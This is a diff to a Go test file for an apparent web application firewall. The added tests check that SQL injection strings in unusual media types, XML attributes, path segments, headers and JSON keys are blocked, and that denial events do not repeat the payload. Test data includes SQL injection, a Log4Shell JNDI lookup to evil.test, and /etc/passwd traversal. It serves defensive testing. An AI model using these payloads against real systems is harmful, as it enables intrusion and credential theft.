@@ -10,6 +10,7 @@ import (
 	"github.com/gatehouse-sec/gatehouse/gate"
 	"github.com/gatehouse-sec/gatehouse/kit/body"
 	"github.com/gatehouse-sec/gatehouse/kit/canon"
+	"github.com/gatehouse-sec/gatehouse/kit/openapi"
 )
 
 var rules = Load()
@@ -63,6 +64,78 @@ var attacks = map[string]sample{
 	"log4j in field":      {method: "GET", path: "/x", fields: map[string]string{"X-Request-Id": "${jndi:ldap://evil.test/a}"}},
 	"traversal in query":  {method: "GET", path: "/x", query: []canon.Pair{{Name: "file", Value: "../../../../etc/passwd"}}},
 	"scanner":             {method: "GET", path: "/x", fields: map[string]string{"User-Agent": "sqlmap/1.8"}},
+}
+
+// Without a contract the client chooses the media type, and no template says where the values are: there is no place in
+// which an attack is not looked for.
+func TestWithoutAContractEverythingIsInspected(t *testing.T) {
+	const sql = "x' UNION SELECT password FROM users--"
+	escaped := `{"q":"x\u0027\u0020UNION\u0020SELECT\u0020password\u0020FROM\u0020users--"}`
+	g := guard(t, Config{})
+	for name, s := range map[string]sample{
+		"called bytes":         {method: "POST", path: "/x", media: "application/octet-stream", kind: body.Opaque, body: `{"q":"` + sql + `"}`},
+		"called a picture":     {method: "POST", path: "/x", media: "image/png", kind: body.Opaque, body: "q=" + sql},
+		"rare name of json":    {method: "POST", path: "/x", media: "application/a_b+json", kind: body.JSON, body: escaped},
+		"rare name of xml":     {method: "POST", path: "/x", media: "image/svg+xml", kind: body.XML, body: "<a><b>x&#39; UNION SELECT password FROM users--</b></a>"},
+		"attribute":            {method: "POST", path: "/x", media: "text/xml", kind: body.XML, body: `<a b="` + sql + `"/>`},
+		"attribute, forgiven":  {method: "POST", path: "/x", media: "text/xml", kind: body.XML, body: `<a>&nope;<b c="` + sql + `"/></a>`},
+		"attribute, no quotes": {method: "POST", path: "/x", media: "text/xml", kind: body.XML, body: "<a><b c=1 <d e=\"" + sql + "\"/></a>"},
+		"segment of the path":  {method: "GET", path: "/users/x"},
+	} {
+		x := s.exchange()
+		x.Request.Segments = []string{"users", "x"}
+		if name == "segment of the path" {
+			x.Request.Segments[1] = sql
+		}
+		v := g.Check(t.Context(), x)
+		if v.Allowed() || v.Code != gate.Attack {
+			t.Errorf("%s: %+v", name, v)
+		}
+		if strings.Contains(v.Detail+v.Shown+v.Fix, "password") {
+			t.Errorf("%s: the event repeats the body: %+v", name, v)
+		}
+	}
+}
+
+// A field that the contract declares as a parameter is inspected as one.
+func TestDeclaredFieldsAreInspected(t *testing.T) {
+	g := guard(t, Config{})
+	s := sample{method: "GET", path: "/x", fields: map[string]string{"X-Filter": "x' UNION SELECT password FROM users--"}}
+	x := s.exchange()
+	x.Operation.Contract = &openapi.Operation{Requests: openapi.Requests{Parameters: []*openapi.Parameter{{In: "header", Name: "x-filter"}}}}
+	if v := g.Check(t.Context(), x); v.Allowed() {
+		t.Error("allowed")
+	}
+	if !strings.Contains(g.Check(t.Context(), x).Fix, "x-filter") {
+		t.Error("the exception does not name the field")
+	}
+}
+
+// What the engine drops because it is too much was not inspected, so it does not pass: limits may be set that admit it.
+func TestMoreThanTheEngineTakesIsDenied(t *testing.T) {
+	g := guard(t, Config{})
+	s := sample{method: "POST", path: "/x", media: "application/json", kind: body.JSON, body: "[" + strings.Repeat("1,", 100_001) + `"x"]`}
+	if v := g.Check(t.Context(), s.exchange()); v.Allowed() || v.Rule != "crs 100004" {
+		t.Errorf("%.200s %s", v.Detail, v.Rule)
+	}
+}
+
+// A name that a client makes up may be a secret, and a text read as a form is all name: neither stands in the event (K2).
+func TestADenialRepeatsNoNamesThatAreContent(t *testing.T) {
+	g := guard(t, Config{})
+	for name, s := range map[string]sample{
+		"query": {method: "GET", path: "/x", query: []canon.Pair{{Name: "x' UNION SELECT canary FROM users--", Value: "1"}}},
+		"json":  {method: "POST", path: "/x", media: "application/json", kind: body.JSON, body: `{"x' UNION SELECT canary FROM users--":1}`},
+		"text":  {method: "POST", path: "/x", media: "text/plain", kind: body.Text, body: "canary' UNION SELECT password FROM users--"},
+	} {
+		v := g.Check(t.Context(), s.exchange())
+		if v.Allowed() {
+			t.Errorf("%s: allowed", name)
+		}
+		if strings.Contains(v.Detail+v.Shown+v.Fix, "canary") {
+			t.Errorf("%s: %+v", name, v)
+		}
+	}
 }
 
 func TestAttacksAreDenied(t *testing.T) {
